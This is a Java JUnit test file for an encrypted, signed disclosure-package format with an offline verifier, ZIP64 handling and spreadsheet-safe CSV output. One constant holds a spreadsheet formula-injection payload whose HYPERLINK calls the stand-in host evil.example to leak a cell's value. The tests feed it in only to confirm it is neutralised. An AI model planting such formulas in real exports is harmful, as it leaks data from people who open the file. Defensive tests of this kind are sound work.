package org.custodian.disclosure;

import java.io.ByteArrayInputStream;
import java.io.File;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.PublicKey;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import java.util.stream.Stream;

import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import net.lingala.zip4j.ZipFile;
import net.lingala.zip4j.model.FileHeader;
import org.custodian.disclosure.format.CanonicalZipWriter;
import org.custodian.disclosure.format.EncodedEntry;
import org.custodian.disclosure.format.PublicKeys;
import org.custodian.disclosure.format.VerifyPackage;
import org.custodian.disclosure.format.Zip64Packages;
import org.custodian.shared.DataCategory;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.classes;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * The package format without Spring or a database: opaque names, spreadsheet-safe CSV,
 * and an offline verifier that rejects a changed byte anywhere and writes nothing.
 */
class PackageFormatTests {

	static final String PASSPHRASE = "ABCD-EFGH-JKLM-NPQR-STUV-WXYZ";

	static final Instant PRODUCED_AT = Instant.parse("2026-11-24T10:15:31Z");

	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

	@TempDir
	Path temp;

	private KeyPair pair;

	private Path zip;

	private Path passphrase;

	private String publicKey;

	@BeforeEach
	void build() throws Exception {
		this.pair = KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
		this.publicKey = Base64.getEncoder().encodeToString(this.pair.getPublic().getEncoded());
		this.zip = this.temp.resolve("package.zip");
		this.passphrase = this.temp.resolve("passphrase.txt");
		Files.writeString(this.passphrase, "ABCD-EFGH-JKLM-NPQR-STUV-WXYZ\n");
		PackageBuilder.Spec spec = new PackageBuilder.Spec("CR-2026-000042", "request-42", "Metro Police",
				Set.of(DataCategory.BASIC_SUBSCRIBER, DataCategory.CONTENT), LocalDate.of(2020, 1, 1),
				LocalDate.of(2020, 6, 30),
				List.of(new PackageBuilder.Target("USERNAME", "wire.fraudster", "acct-secret-1"),
						new PackageBuilder.Target("EMAIL", "nobody@example.org", null),
						new PackageBuilder.Target("USERNAME", "london.trader", "acct-secret-2")),
				PRODUCED_AT);
		SigningKeys.Signer signer = new SigningKeys.Signer(PublicKeys.keyId(this.pair.getPublic()),
				this.pair.getPublic(), this.pair.getPrivate());
		try (OutputStream out = Files.newOutputStream(this.zip)) {
			PackageBuilder.build(spec, new Records(), "ABCD-EFGH-JKLM-NPQR-STUV-WXYZ".toCharArray(), signer, out,
					new PackageBuilder.Settings(1, 2, this.temp.resolve("package.zip.part1")));
		}
	}

	@Test
	void namesRevealNoAccountOrCategoryAndOpenWithAnIndependentReader() throws Exception {
		List<String> names = new ArrayList<>();
		String csv;
		try (ZipFile file = new ZipFile(this.zip.toFile(), "ABCD-EFGH-JKLM-NPQR-STUV-WXYZ".toCharArray())) {
			for (FileHeader header : file.getFileHeaders()) {
				assertThat(header.isEncrypted()).as(header.getFileName()).isTrue();
				names.add(header.getFileName());
			}
			try (InputStream in = file.getInputStream(file.getFileHeader("targets/01/part-02.csv"))) {
				csv = new String(in.readAllBytes(), StandardCharsets.UTF_8);
			}
		}
		assertThat(names).containsExactly("targets/01/part-01.json", "targets/01/part-01.csv",
				"targets/01/part-02.json", "targets/01/part-02.csv", "targets/03/part-01.json",
				"targets/03/part-01.csv", "targets/03/part-02.json", "targets/03/part-02.csv", "README.txt",
				"manifest.json", "manifest.sig", "records-certificate.pdf");
		byte[] raw = Files.readAllBytes(this.zip);
		String latin = new String(raw, StandardCharsets.ISO_8859_1);
		assertThat(latin).doesNotContain("acct-secret", "wire.fraudster", "CONTENT", "BASIC_SUBSCRIBER");
		assertThat(csv).contains("\"'" + FORMULA.replace("\"", "\"\"") + "\"")
			.contains("\"'+85291234567\"")
			.contains("\"'-1\"")
			.contains("\"'@cmd\"")
			.contains("plain text");
		assertThat(csv.lines()).noneMatch((line) -> line.startsWith("=") || line.contains(",=") || line.contains(",+"));
	}

	@Test
	void theOfflineVerifierAcceptsTheIntactPackageWithTheBase64KeyOrTheJwkSet() throws Exception {
		assertThat(verify(this.zip, this.publicKey)).startsWith("0 Package VALID: CR-2026-000042, 9 files");
		Path jwks = this.temp.resolve("jwks.json");
		Files.writeString(jwks, "{\"keys\":[{\"kty\":\"OKP\",\"crv\":\"Ed25519\",\"x\":\""
				+ PublicKeys.jwk(this.pair.getPublic()).get("x") + "\",\"kid\":\"k\"}]}");
		assertThat(verify(this.zip, jwks.toString())).startsWith("0 Package VALID");
		String other = Base64.getEncoder()
			.encodeToString(KeyPairGenerator.getInstance("Ed25519").generateKeyPair().getPublic().getEncoded());
		assertThat(verify(this.zip, other)).startsWith("1 Package REJECTED").contains("not among the keys given");
	}

	@Test
	void theOfflineVerifierVerifiesAPackageOfHuffmanCodedFiles() throws Exception {
		// random text of 400,000 characters: Huffman-coded, several blocks
		// (EntryEncoderTests)
		Path random = this.temp.resolve("random.zip");
		PackageBuilder.Spec spec = new PackageBuilder.Spec("CR-2026-000043", "request-43", "Metro Police",
				Set.of(DataCategory.CONTENT), LocalDate.of(2020, 1, 1), LocalDate.of(2020, 6, 30),
				List.of(new PackageBuilder.Target("USERNAME", "random.writer", "acct-random")), PRODUCED_AT);
		SigningKeys.Signer signer = new SigningKeys.Signer(PublicKeys.keyId(this.pair.getPublic()),
				this.pair.getPublic(), this.pair.getPrivate());
		PackageBuilder.Result result;
		try (OutputStream out = Files.newOutputStream(random)) {
			result = PackageBuilder.build(spec, new RandomText(), PASSPHRASE.toCharArray(), signer, out,
					new PackageBuilder.Settings(1, 2, this.temp.resolve("random.zip.part1")));
		}
		assertThat(verify(random, this.publicKey)).startsWith("0 Package VALID: CR-2026-000043, 3 files");
		assertThat(Files.size(random)).isLessThan(result.dataBytes() * 8 / 10);
	}

	@Test
	void theOfflineVerifierRejectsAChangedByteAnywhere() throws Exception {
		byte[] bytes = Files.readAllBytes(this.zip);
		int directory = lastIndexOf(bytes, new byte[] { 0x50, 0x4b, 0x01, 0x02 }, bytes.length);
		int firstDirectory = indexOf(bytes, new byte[] { 0x50, 0x4b, 0x01, 0x02 });
		List<Integer> positions = new ArrayList<>(List.of(0, 4, 6, 8, 10, 12, 14, 18, 22, 26, 28, 30, 40, 45, 50,
				// the first entry's salt, password check, ciphertext and authentication
				// code
				52, 68, 69, 70, 100, firstDirectory - 1, firstDirectory, firstDirectory + 16, firstDirectory + 42,
				directory, directory + 30, bytes.length - 22, bytes.length - 12, bytes.length - 6, bytes.length - 2,
				bytes.length - 1));
		for (int i = 0; i < bytes.length; i += 257) {
			positions.add(i);
		}
		assertEveryChangeRejected(bytes, positions,
				(file) -> verify(file, this.publicKey).startsWith("1 Package REJECTED"));
		Path longer = this.temp.resolve("longer.zip");
		Files.write(longer, bytes);
		Files.write(longer, new byte[] { 0 }, java.nio.file.StandardOpenOption.APPEND);
		assertThat(verify(longer, this.publicKey)).startsWith("1 Package REJECTED");
	}

	@Test
	void aPackageThatNeedsNoZip64IsLaidOutByteForByteAsBeforeZip64() throws Exception {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		CanonicalZipWriter writer = new CanonicalZipWriter(out, Instant.parse("2026-11-24T10:15:31Z"));
		writer.add("targets/01/part-01.json", new EncodedEntry(8, "deflate", 40, 100, null),
				new ByteArrayInputStream(new byte[40]));
		writer.add("README.txt", new EncodedEntry(0, "stored", 30, 2, null), new ByteArrayInputStream(new byte[30]));
		writer.finish();
		// the SHA-256 of what the writer wrote before it knew ZIP64 (commit 4f41b2f)
		assertThat(PackageBuilder.sha256(out.toByteArray()))
			.isEqualTo("b640c4e5b6ce57b680bca30d472455c7fabb853ee0f4339fe709e94770f3e772");
	}

	@Test
	void aZip64PackageVerifiesUnderItsRuleOpensWithAnIndependentReaderAndIsRefusedWhereZip64IsNotNeeded()
			throws Exception {
		Path forced = zip64("forced.zip", 0, 0);
		assertThat(Zip64Packages.verify(forced, PASSPHRASE.toCharArray(), this::key, 0, 0))
			.satisfies((verdict) -> assertThat(verdict.problems()).isEmpty())
			.satisfies((verdict) -> assertThat(verdict.files()).isEqualTo(9));
		byte[] bytes = Files.readAllBytes(forced);
		assertThat(shortAt(bytes, 28)).as("first local header: ZIP64 field of 20 bytes, then the AES field")
			.isEqualTo(20 + 11);
		assertThat(intAt(bytes, bytes.length - 22 - 20 - 56)).as("ZIP64 end record").isEqualTo(0x06064b50);
		assertThat(intAt(bytes, bytes.length - 22 - 20)).as("ZIP64 locator").isEqualTo(0x07064b50);
		long half = Files.size(this.zip) / 2;
		Path mixed = zip64("mixed.zip", half, 1000);
		assertThat(Zip64Packages.verify(mixed, PASSPHRASE.toCharArray(), this::key, half, 1000).problems()).isEmpty();
		byte[] mixedBytes = Files.readAllBytes(mixed);
		assertThat(shortAt(mixedBytes, 28)).as("a small entry at a small offset has no ZIP64 field").isEqualTo(11);
		assertThat(shortAt(mixedBytes, mixedBytes.length - 22 + 10)).as("entry count, not ZIP64").isEqualTo(12);
		assertThat(intAt(mixedBytes, mixedBytes.length - 22 + 16) & 0xFFFFFFFFL).as("directory offset: ZIP64")
			.isEqualTo(0xFFFFFFFFL);
		for (Path file : List.of(forced, mixed)) {
			assertThat(contents(file)).as(file.getFileName().toString()).isEqualTo(contents(this.zip));
			assertThat(verify(file, this.publicKey)).as("ZIP64 where no value needs it is not canonical")
				.startsWith("1 Package REJECTED");
		}
		assertThat(Zip64Packages.verify(this.zip, PASSPHRASE.toCharArray(), this::key, 0, 0).valid())
			.as("and no ZIP64 where the rule wants it is not either")
			.isFalse();
	}

	@Test
	void sevenZipExtractsAZip64Package() throws Exception {
		boolean available = new File("/usr/bin/7z").canExecute();
		if (!"true".equals(System.getenv("CI"))) {
			Assumptions.assumeTrue(available, "7z is not installed (apt-get install p7zip-full): skipped");
		}
		Map<String, String> expected = contents(this.zip);
		for (Path file : List.of(zip64("forced.zip", 0, 0), zip64("mixed.zip", Files.size(this.zip) / 2, 1000))) {
			Path out = this.temp.resolve("7z-" + file.getFileName());
			Process sevenZip = new ProcessBuilder("7z", "x", "-p" + PASSPHRASE, "-o" + out, file.toString())
				.redirectErrorStream(true)
				.start();
			String log = new String(sevenZip.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
			assertThat(sevenZip.waitFor()).as(log).isZero();
			assertThat(log).as(log).doesNotContainIgnoringCase("warning").doesNotContainIgnoringCase("error");
			Map<String, String> extracted = new LinkedHashMap<>();
			try (Stream<Path> files = Files.walk(out)) {
				for (Path path : files.filter(Files::isRegularFile).toList()) {
					extracted.put(out.relativize(path).toString().replace('\\', '/'),
							PackageBuilder.sha256(Files.readAllBytes(path)));
				}
			}
			assertThat(extracted).as(file.getFileName().toString()).hasSize(12).isEqualTo(expected);
		}
	}

	@Test
	void aChangedByteInTheZip64RecordsIsRejected() throws Exception {
		Path forced = zip64("forced.zip", 0, 0);
		byte[] bytes = Files.readAllBytes(forced);
		int nameLength = shortAt(bytes, 26);
		int directory = indexOf(bytes, new byte[] { 0x50, 0x4b, 0x01, 0x02 });
		List<Integer> positions = new ArrayList<>();
		for (int i = 0; i < 20; i++) {
			// the first local header's ZIP64 field: tag, length, both sizes
			positions.add(30 + nameLength + i);
		}
		for (int i = 0; i < 28; i++) {
			// the first central record's: tag, length, sizes, offset
			positions.add(directory + 46 + nameLength + i);
		}
		for (int i = bytes.length - 22 - 20 - 56; i < bytes.length; i++) {
			// ZIP64 end record, locator, end record
			positions.add(i);
		}
		assertEveryChangeRejected(bytes, positions,
				(file) -> !Zip64Packages.verify(file, PASSPHRASE.toCharArray(), this::key, 0, 0).valid());
	}

	/** Each position's byte changed in turn, the package is rejected. */
	private void assertEveryChangeRejected(byte[] bytes, List<Integer> positions, Predicate<Path> rejected)
			throws IOException {
		for (int position : positions) {
			byte[] altered = bytes.clone();
			altered[position] ^= 0x01;
			Path file = this.temp.resolve("altered.zip");
			Files.write(file, altered);
			assertThat(rejected.test(file)).as("byte %d of %d changed", position, bytes.length).isTrue();
		}
	}

	private Path zip64(String name, long bytes, long entries) throws Exception {
		Path file = this.temp.resolve(name);
		Zip64Packages.relayout(this.zip, file, PRODUCED_AT, bytes, entries);
		return file;
	}

	private Optional<PublicKey> key(String id) {
		return Optional.of(this.pair.getPublic()).filter((key) -> PublicKeys.keyId(key).equals(id));
	}

	/** Every entry's SHA-256, read by zip4j. */
	private static Map<String, String> contents(Path file) throws IOException {
		Map<String, String> contents = new LinkedHashMap<>();
		try (ZipFile zip = new ZipFile(file.toFile(), PASSPHRASE.toCharArray())) {
			for (FileHeader header : zip.getFileHeaders()) {
				try (InputStream in = zip.getInputStream(header)) {
					contents.put(header.getFileName(), PackageBuilder.sha256(in.readAllBytes()));
				}
			}
		}
		return contents;
	}

	private static int intAt(byte[] bytes, int position) {
		return ByteBuffer.wrap(bytes, position, 4).order(ByteOrder.LITTLE_ENDIAN).getInt();
	}

	private static int shortAt(byte[] bytes, int position) {
		return Short.toUnsignedInt(ByteBuffer.wrap(bytes, position, 2).order(ByteOrder.LITTLE_ENDIAN).getShort());
	}

	@Test
	void theVerifierJarRunsOnTheJdkAloneAndWritesNothing() throws Exception {
		Path work = Files.createDirectory(this.temp.resolve("agency"));
		Files.copy(this.zip, work.resolve("package.zip"));
		Files.copy(this.passphrase, work.resolve("passphrase.txt"));
		List<Path> before = list(work);
		// target/classes without any library: no Spring, no database driver, no zip4j
		ProcessBuilder process = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
				"-cp", Path.of("target", "classes").toAbsolutePath().toString(), VerifyPackage.class.getName(),
				"package.zip", "--passphrase-file", "passphrase.txt", "--public-key", this.publicKey)
			.directory(work.toFile())
			.redirectErrorStream(true);
		long start = System.nanoTime();
		Process running = process.start();
		String output = new String(running.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
		assertThat(running.waitFor(60, TimeUnit.SECONDS)).isTrue();
		long millis = (System.nanoTime() - start) / 1_000_000;
		LoggerFactory.getLogger(PackageFormatTests.class).info("verifier JVM: {} ms, {}", millis, output.strip());
		assertThat(running.exitValue()).as(output).isZero();
		assertThat(output).startsWith("Package VALID: CR-2026-000042");
		assertThat(list(work)).isEqualTo(before);
		assertThat(work.resolve("data")).doesNotExist();
	}

	@Test
	void theFormatNeedsNothingButTheJdk() {
		classes().that()
			.resideInAPackage("org.custodian.disclosure.format..")
			.should()
			.onlyDependOnClassesThat()
			.resideInAnyPackage("java..", "javax..", "org.custodian.disclosure.format..")
			.because("the verifier jar holds these classes and nothing else")
			.check(new ClassFileImporter().withImportOption(ImportOption.Predefined.DO_NOT_INCLUDE_TESTS)
				.importPackages("org.custodian.disclosure.format"));
	}

	@Test
	void neutralisesCellsThatASpreadsheetWouldRunAsFormulas() {
		assertThat(SpreadsheetCsv.cell(FORMULA))
			.isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1," + "\"\"Click\"\")\"");
		assertThat(SpreadsheetCsv.cell("+1")).isEqualTo("\"'+1\"");
		assertThat(SpreadsheetCsv.cell("-1")).isEqualTo("\"'-1\"");
		assertThat(SpreadsheetCsv.cell("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
		assertThat(SpreadsheetCsv.cell("\tx")).isEqualTo("\"'\tx\"");
		assertThat(SpreadsheetCsv.cell("\rx")).isEqualTo("\"'\rx\"");
		assertThat(SpreadsheetCsv.cell("a, b")).isEqualTo("\"a, b\"");
		assertThat(SpreadsheetCsv.cell("a=b")).isEqualTo("a=b");
		assertThat(SpreadsheetCsv.cell("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
		assertThat(SpreadsheetCsv.cell("two\nlines")).isEqualTo("\"two\nlines\"");
		assertThat(SpreadsheetCsv.cell("back\\slash")).isEqualTo("back\\slash");
	}

	private String verify(Path file, String key) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		int code = VerifyPackage.run(
				List.of(file.toString(), "--passphrase-file", this.passphrase.toString(), "--public-key", key),
				new PrintStream(out, true, StandardCharsets.UTF_8));
		return code + " " + out.toString(StandardCharsets.UTF_8);
	}

	private static List<Path> list(Path directory) throws IOException {
		try (Stream<Path> files = Files.walk(directory)) {
			return files.sorted().toList();
		}
	}

	private static int indexOf(byte[] bytes, byte[] pattern) {
		return lastIndexOf(bytes, pattern, -1);
	}

	/** The last occurrence before {@code before}, or the first one when before is -1. */
	private static int lastIndexOf(byte[] bytes, byte[] pattern, int before) {
		int found = -1;
		for (int i = 0; i + pattern.length <= bytes.length && (before < 0 || i < before); i++) {
			if (java.util.Arrays.equals(bytes, i, i + pattern.length, pattern, 0, pattern.length)) {
				if (before < 0) {
					return i;
				}
				found = i;
			}
		}
		return found;
	}

	/** Two categories per account, with values a spreadsheet would run. */
	/** One record of random characters of a 64-letter alphabet. */
	private static final class RandomText implements RecordSource {

		@Override
		public List<String> fields(DataCategory category) {
			return List.of("body");
		}

		@Override
		public Stream<DataRecord> export(String accountId, DataCategory category, LocalDate from, LocalDate to) {
			String alphabet = "abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.,";
			SplittableRandom random = new SplittableRandom(9);
			StringBuilder body = new StringBuilder();
			for (int i = 0; i < 400_000; i++) {
				body.append(alphabet.charAt(random.nextInt(alphabet.length())));
			}
			return Stream
				.of(new DataRecord("post", Instant.parse("2020-02-01T00:00:00Z"), Map.of("body", body.toString())));
		}

	}

	private static final class Records implements RecordSource {

		@Override
		public List<String> fields(DataCategory category) {
			return List.of("phone", "body");
		}

		@Override
		public Stream<DataRecord> export(String accountId, DataCategory category, LocalDate from, LocalDate to) {
			List<DataRecord> records = new ArrayList<>();
			for (String body : List.of(FORMULA, "-1", "@cmd", "plain text")) {
				Map<String, String> fields = new LinkedHashMap<>();
				fields.put("phone", "+85291234567");
				fields.put("body", body);
				records.add(new DataRecord("post", Instant.parse("2020-02-01T00:00:00Z"), fields));
			}
			return records.stream();
		}

	}

}
